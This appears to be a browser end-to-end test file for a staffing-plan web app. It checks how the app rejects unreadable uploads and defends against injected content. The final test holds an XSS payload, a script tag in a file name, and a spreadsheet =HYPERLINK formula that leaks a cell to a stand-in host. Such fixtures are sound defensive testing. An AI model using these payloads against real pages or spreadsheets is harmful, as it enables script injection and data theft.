import { mkdtempSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright';
import { describe, expect, it, onTestFinished } from 'vitest';
import { chooseFile, downloaded, exportPlanButton, goTo, openPage, planReady, smallFile, wordsOf } from './page.ts';
import { readCsv } from './recompute.ts';

const card = (page: Page) => page.getByRole('region', { name: 'Understood as', exact: true });

/** What the page says of a file that it cannot read. */
async function refusal(page: Page, name: string): Promise<string> {
  const sentence = card(page).getByRole('alert').filter({ hasText: name });
  await sentence.waitFor();
  await page.getByRole('heading', { name: `${name} could not be read; the plan is as it was.` }).waitFor();
  await expect(wordsOf(card(page))).resolves.toContain('This file could not be read. Your plan is as it was.');
  await expect(page.getByRole('button', { name: 'Compute plan', exact: true }).count()).resolves.toBe(0);
  return wordsOf(sentence);
}

/** The start of a zip archive that holds a workbook. */
const workbook = Buffer.concat([
  Buffer.from('PK\x03\x04\x14\x00\x06\x00', 'latin1'),
  Buffer.alloc(18),
  Buffer.from('[Content_Types].xml'),
  Buffer.alloc(600, 7),
]);
const binary = Buffer.from(Array.from({ length: 4096 }, (_, k) => (k * 151 + (k >> 3)) % 256));

/** File, what is wrong (and where, where there is a place), and what to do about it. */
const unreadable: readonly [string, string, string | Buffer, RegExp, RegExp][] = [
  ['an empty file', 'empty.csv', '', /empty/, /Export it again|choose another/],
  ['a header without lines', 'header.csv', 'timestamp,contacts\n', /header and no line below/, /Check the period/],
  ['a binary file', 'binary.csv', binary, /not a text file/, /CSV/],
  [
    'a file without a column of numbers',
    'words.csv',
    `timestamp,agent\n${Array.from({ length: 20 }, (_, k) => `2026-03-02 ${String(k).padStart(2, '0')}:00,Anna`).join('\n')}\n`,
    /no column holds numbers/,
    /Say which column|add one/,
  ],
  [
    'a file without a column of dates',
    'numbers.csv',
    `agent,contacts\n${Array.from({ length: 20 }, (_, k) => `Anna,${k + 3}`).join('\n')}\n`,
    /no column holds dates/,
    /Say which column|add one/,
  ],
  [
    'a web page',
    'report.csv',
    '<!DOCTYPE html><html><body><script>window.marker = 1</script><table><tr><td>1</td></tr></table></body></html>',
    /web page without a table/,
    /Export the report again/,
  ],
  ['a workbook that was cut off', 'calls.xlsx', workbook, /workbook is damaged/, /save it again as \.xlsx/],
];

describe('a file that cannot be read', () => {
  it('is answered with a sentence that names the file, what is wrong and what helps; the plan stays', async () => {
    const { page } = await openPage();
    const before = (await downloaded(page, exportPlanButton(page))).text;
    const sentence = await wordsOf(page.locator('h1'));
    for (const [what, name, content, fault, cure] of unreadable) {
      await chooseFile(page, name, content);
      const words = await refusal(page, name);
      expect.soft(words, what).toContain(`${name}:`);
      expect.soft(words, what).toMatch(fault);
      expect.soft(words, what).toMatch(cure);
      expect.soft(words, what).toMatch(/^[^{}]+$/);
    }
    expect(await page.evaluate(() => 'marker' in window)).toBe(false);
    await goTo(page, 'Staffing');
    await expect(wordsOf(page.locator('h1'))).resolves.toBe(sentence);
    expect((await downloaded(page, exportPlanButton(page))).text).toBe(before);
    // Discarding it leaves the plan's own volumes, also after a reload.
    await goTo(page, 'Volumes');
    await page.getByRole('button', { name: 'Discard', exact: true }).click();
    await card(page).waitFor({ state: 'detached' });
    await page.reload();
    await planReady(page);
    await expect(wordsOf(page.locator('h1'))).resolves.toMatch(/^524,053 contacts of 2 queues/);
  });

  it('of more than a gigabyte is answered with its size, the limit in MB and a cure, and the next file is read', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'staffetta-'));
    onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
    const path = join(folder, 'large.csv');
    // What lies behind the first lines is a hole that takes no room on the disk.
    writeFileSync(path, 'timestamp,contacts\n2026-03-02 09:00,12\n');
    truncateSync(path, 2 ** 30 + 1);
    const { page } = await openPage();
    await page.getByLabel('Volume file', { exact: true }).setInputFiles(path);
    const words = await refusal(page, 'large.csv');
    expect(words).toContain('large.csv:');
    expect(words).toMatch(/1024\sMB/);
    expect(words).toMatch(/Split it|shorter period|fewer queues/);
    await chooseFile(page, 'own.csv', smallFile());
    await page.getByRole('button', { name: 'Compute plan', exact: true }).click();
    await planReady(page);
    await expect(wordsOf(page.locator('h1'))).resolves.toMatch(/^Week of 16 Mar/);
  });

  it('says the line, the column and the value of every cell that is set aside', async () => {
    const { page } = await openPage();
    const lines = smallFile().trimEnd().split('\n');
    lines[4] = lines[4]!.replace(/,\d+,/, ',many,');
    lines[9] = lines[9]!.replace('2026-03-02', '2026-02-30');
    await chooseFile(page, 'faults.csv', `${lines.join('\n')}\n`);
    const list = page.getByRole('region', { name: 'Set aside', exact: true });
    await list.getByText('No such day', { exact: true }).click();
    await list.getByText('Line 10', { exact: true }).waitFor();
    const words = await wordsOf(list);
    expect(words).toMatch(/Not a number 1 Correct the cell, .*Line 5 contacts: many/);
    expect(words).toMatch(/No such day 1 Correct the day, .*Line 10 timestamp: 2026-02-30/);
    const file = await downloaded(page, list.getByRole('button', { name: /Download the list/ }));
    expect(readCsv(file.text, ',').rows.map((row) => [row.line, row.column])).toEqual([
      ['5', 'contacts'],
      ['10', 'timestamp'],
    ]);
  });
});

describe('a file with content that would run', () => {
  const image = '<img src=x onerror="window.marker=1;alert(1)">';
  const formula = '=HYPERLINK("http://example.org/?leak="&A1,"click")';

  it('runs nowhere on the page, and reaches an exported CSV as text', async () => {
    const { page, requests } = await openPage();
    const dialogs: string[] = [];
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
    const names = [formula, image, '@SUM(1+1)', '+39 02 1234', '-North', "'quoted"];
    await chooseFile(page, '<b>own<script>1<.csv', smallFile({ queues: names.map(quoted) }));
    await page.getByRole('button', { name: 'Compute plan', exact: true }).click();
    await planReady(page);
    for (const step of ['Volumes', 'Forecast', 'Scenarios', 'Staffing']) await goTo(page, step);
    await page.getByRole('combobox', { name: 'Queue', exact: true }).selectOption({ label: image });
    await page.getByRole('combobox', { name: 'Queue', exact: true }).selectOption({ label: 'All queues' });
    await page.getByRole('grid').locator('td[data-place]:not(.x)').first().click();
    await page.getByRole('region', { name: 'Why this many agents' }).getByText(image).waitFor();
    await goTo(page, 'Scenarios');
    await page.getByRole('button', { name: 'Edit Campaign', exact: true }).click();
    await page.getByRole('textbox', { name: 'Name', exact: true }).fill(formula);
    await page.getByRole('textbox', { name: 'Note', exact: true }).fill(image);
    await planReady(page);
    const scenarios = await downloaded(page, page.getByRole('button', { name: 'Export scenarios (CSV)', exact: true }));
    await goTo(page, 'Staffing');
    const plan = await downloaded(page, exportPlanButton(page));

    const written = new Set(readCsv(plan.text, ',').rows.map((row) => row.queue));
    expect(written).toEqual(new Set([`'${formula}`, image, "'@SUM(1+1)", "'+39 02 1234", "'-North", "'quoted"]));
    for (const line of plan.text.split('\r\n')) expect(line).not.toMatch(/^"?[=+\-@]/);
    expect(plan.fileName).not.toMatch(/[<>"/\\|?*:]/);
    expect(readCsv(scenarios.text, ',').rows[1]).toMatchObject({ scenario: `'${formula}`, note: image });

    expect(dialogs).toEqual([]);
    expect(await page.evaluate(() => 'marker' in window)).toBe(false);
    expect(await page.locator('main img, main script').count()).toBe(0);
    expect(requests.filter(({ url }) => !url.startsWith('blob:') && !url.includes('127.0.0.1'))).toEqual([]);
  });
});
